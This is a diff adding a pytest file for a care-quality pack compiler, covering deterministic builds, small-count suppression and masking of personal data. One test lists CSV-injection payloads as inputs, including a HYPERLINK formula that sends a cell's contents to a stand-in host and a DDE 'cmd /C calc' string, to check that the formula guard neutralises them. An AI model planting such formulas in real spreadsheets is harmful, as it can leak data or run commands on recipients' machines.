@@ -1,0 +1,180 @@
+"""The commissioner pack on the bundled example: return files, suppression, determinism; and the
+CQC pack's personal-data warning section."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pypdfium2 as pdfium
+import pytest
+from click.testing import CliRunner
+from openpyxl import load_workbook
+
+from compiler import pipeline
+from compiler.cli import cli
+from compiler.privacy.suppress import HIDDEN, SMALL
+from compiler.writers.commissioner_return import guard, return_csv, return_xlsx
+from compiler.writers.commissioner_view import RETURN_COLUMNS, ReturnRow, metric_unit, published_values
+
+ROOT = Path(__file__).resolve().parents[2]
+PLANS = ROOT / "examples" / "plans"
+EVIDENCE = ROOT / "examples" / "evidence"
+AS_OF = dt.date(2026, 11, 20)
+
+
+def build(out: Path, keys: Path, pack: str = "commissioner"):
+    return CliRunner().invoke(cli, ["build", str(PLANS), "--evidence", str(EVIDENCE), "--pack", pack,
+                                    "--as-of", AS_OF.isoformat(), "--out", str(out)],
+                              env={"SGPACK_KEY_DIR": str(keys)}, catch_exceptions=False)
+
+
+@pytest.fixture(scope="module")
+def packs(tmp_path_factory) -> tuple[Path, Path]:
+    tmp = tmp_path_factory.mktemp("commissioner")
+    first, second = tmp / "one", tmp / "two"
+    for out in (first, second):
+        result = build(out, tmp / "keys")
+        assert result.exit_code == 0, result.output
+    return first, second
+
+
+def test_two_builds_are_byte_identical(packs):
+    first, second = packs
+    names = sorted(p.name for p in first.iterdir())
+    assert names == ["commissioner-pack.docx", "commissioner-pack.pdf", "manifest.json", "return.csv", "return.xlsx"]
+    for name in names:
+        assert (first / name).read_bytes() == (second / name).read_bytes(), name
+
+
+def test_pack_sections(packs):
+    doc = pdfium.PdfDocument(str(packs[0] / "commissioner-pack.pdf"))
+    text = re.sub(r"\s+", " ", " ".join(doc[i].get_textpage().get_text_range() for i in range(len(doc))))
+    for heading in ("Contract LA-DOM-2025-12", "Oakview (no contract reference)", "Plan progress", "Indicators",
+                    "Actions overdue", "Closures and the evidence behind them", "Remedial action plan (PAMMS format)",
+                    "Data protection", "UK GDPR Article 6(1)(e) public task", "Article 9(2)(h)"):
+        assert heading in text, heading
+    assert "RQ-04" in text and "Sofia Marin" in text                  # overdue, named lead
+    assert "RP-03" in text and "Closed 15 October 2026" in text        # closure with its evidence
+    assert "Quality and Safeguarding Committee minutes, 12 March 2026" in text
+    assert "Chart withheld" in text                                    # restrictive interventions: counts < 5
+    assert f"page {len(doc)} of {len(doc)}" in text
+
+
+def read_csv(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+
+
+def test_return_files_columns_and_suppression(packs):
+    rows = read_csv(packs[0] / "return.csv")
+    assert tuple(rows[0]) == RETURN_COLUMNS == (
+        "provider", "location", "period", "metric", "numerator", "denominator", "value", "unit", "target", "RAG",
+        "SPC signal", "narrative", "evidence refs")
+    body = [dict(zip(rows[0], r)) for r in rows[1:]]
+    restrictive = [r for r in body if r["metric"].startswith("Restrictive interventions")]
+    assert [r["value"] for r in restrictive[-3:]] == ["<5", "<5", "<5"]           # 4, 3, 4
+    assert all(r["RAG"] == "Green" and r["unit"] == "count" for r in restrictive[-3:])
+    assert restrictive[0]["value"] == "12" and restrictive[0]["numerator"] == "12"
+    late = [r for r in body if r["metric"].startswith("Calls started")]
+    assert late[-1]["value"] == "7.2" and late[-1]["unit"] == "%" and late[-1]["RAG"] == "Red"
+    assert not any(r["value"] in {"1", "2", "3", "4"} for r in restrictive)
+    assert late[-1]["narrative"] and late[-1]["evidence refs"] == "indicators-riverside-late-calls"
+
+    wb = load_workbook(packs[0] / "return.xlsx")
+    ws = wb["Return"]
+    values = [[c.value for c in row] for row in ws.iter_rows()]
+    assert tuple(values[0]) == RETURN_COLUMNS
+    assert len(values) == len(rows)
+    for row in ws.iter_rows():
+        for c in row:
+            assert c.data_type != "f"
+            if isinstance(c.value, str):
+                assert c.data_type == "s"
+    assert wb.properties.creator == "sgpack" and wb.properties.created == dt.datetime(2026, 11, 20)
+
+
+def test_csv_formula_guard_and_xlsx_text_stays_text():
+    evil = ["=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1", "\r=1", " =1+1", "＝1+1", "-5", "12.5", "plain"]
+    row = ReturnRow(*evil[:13], *[""] * (13 - len(evil[:13])))
+    data = return_csv([row])
+    cells = read_csv_bytes(data)[1]
+    assert cells[:9] == ["'=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", "'+1+1", "'-2+3",
+                         "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1", "'\r=1", "' =1+1", "'＝1+1", "-5"]
+    assert cells[9:11] == ["12.5", "plain"]
+    wb = load_workbook(io.BytesIO(return_xlsx([row], title="t", as_of_iso="2026-11-20")))
+    ws = wb.active
+    assert ws["A2"].value == evil[0] and ws["A2"].data_type == "s"
+    assert ws["I2"].value == -5 and ws["I2"].data_type == "n"
+    with zipfile.ZipFile(io.BytesIO(return_xlsx([row], title="t", as_of_iso="2026-11-20"))) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    assert return_xlsx([row], title="t", as_of_iso="2026-11-20") == return_xlsx([row], title="t",
+                                                                                as_of_iso="2026-11-20")
+
+
+def read_csv_bytes(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_suppression_only_for_counts_with_secondary_in_the_quarter():
+    assert metric_unit("Restrictive interventions per month", [12, 4, 3]) == "count"
+    assert metric_unit("Calls started late (%)", [8, 7]) == "%"
+    assert metric_unit("Missed calls per 1,000 planned calls", [3, 2]) == "per 1,000"
+    assert metric_unit("Average length of stay", [3.5, 2.0]) == "value"
+    cells, small, hidden = published_values([3, 12, 10, 3, 12], "count")
+    assert cells[:2] == [SMALL, "12"]                      # older periods: each on its own
+    assert cells[2:] == [HIDDEN, SMALL, "12"]              # the quarter: 10 hidden so its total cannot give 3
+    assert (small, hidden) == (2, 1)
+    assert published_values([3, 2, 1], "%") == (["3", "2", "1"], 0, 0)   # rates are not suppressed
+
+
+def test_cqc_pack_lists_personal_data_warnings_masked(tmp_path):
+    """The warning section, wired the way the CQC writer should call it (see pack_scan.cqc_personal_data)."""
+    from compiler.packs.assemble import assemble
+    from compiler.packs.profiles import load_profile, load_theme, template_file
+    from compiler.privacy.pack_scan import cqc_personal_data
+    from compiler.privacy.roster import load_roster
+    from compiler.writers.bundle import build_bundle
+    from compiler.writers.context import build_context
+    from compiler.writers.docx import render_docx
+    from compiler.writers.packs.cqc import exhibit_inputs
+    from compiler.writers.packs.job import BuildJob
+
+    assessment = pipeline.check([PLANS], EVIDENCE, AS_OF)
+    profile = load_profile("cqc")
+    pack = assemble(assessment, profile, "Oakview")
+    context = build_context(pack)
+    roster = load_roster(PLANS / "roster.csv")
+    context.personal_data = cqc_personal_data(context, pack, roster)
+    hits = {(h.file, h.kind, h.masked) for h in context.personal_data}
+    debrief = next(e for e in pack.exhibits if e.path.endswith("2026-09-04-post-incident-debrief.md"))
+    where = f"exhibits/{debrief.file_name}"
+    assert (where, "NHS number", "999 *** ****") in hits
+    assert (where, "date of birth", "**/**/****") in hits
+    assert (where, "name of a person who uses the service", "J**** T*******") in hits
+    assert all(h.blocking for h in context.personal_data if h.kind == "NHS number")
+
+    stage = tmp_path / "stage"
+    stage.mkdir()
+    job = BuildJob(pack=pack, profile=profile, context=context, theme=load_theme(), stage=stage,
+                   evidence_root=assessment.catalogue.root, templates=None, formats=("pdf", "docx"), seed=b"s")
+    bundle = build_bundle(context, exhibit_inputs(job), theme=load_theme(), seed=b"s")
+    doc = pdfium.PdfDocument(bundle.pdf)
+    page = bundle.pages.anchors["sec_personal_data"]
+    text = " ".join(doc[i].get_textpage().get_text_range() for i in range(page - 1, page + 1))
+    text = re.sub(r"\s+", " ", text)
+    assert "Personal data warnings" in text and "999 *** ****" in text and "J**** T*******" in text
+    section = text[text.index("Personal data warnings"):]
+    for value in ("9990000018", "999 000 0018", "Jamie", "Thornton", "14/03/1994"):
+        assert value not in section
+
+    template_dir = Path(str(template_file("cqc.docx"))).parent
+    docx = render_docx(context, bundle.pages, template_dir=template_dir)
+    with zipfile.ZipFile(io.BytesIO(docx)) as z:
+        xml = z.read("word/document.xml").decode()
+    assert "Personal data" in xml and "999 *** ****" in xml
+    assert "9990000018" not in xml and "999 000 0018" not in xml and "Thornton" not in xml
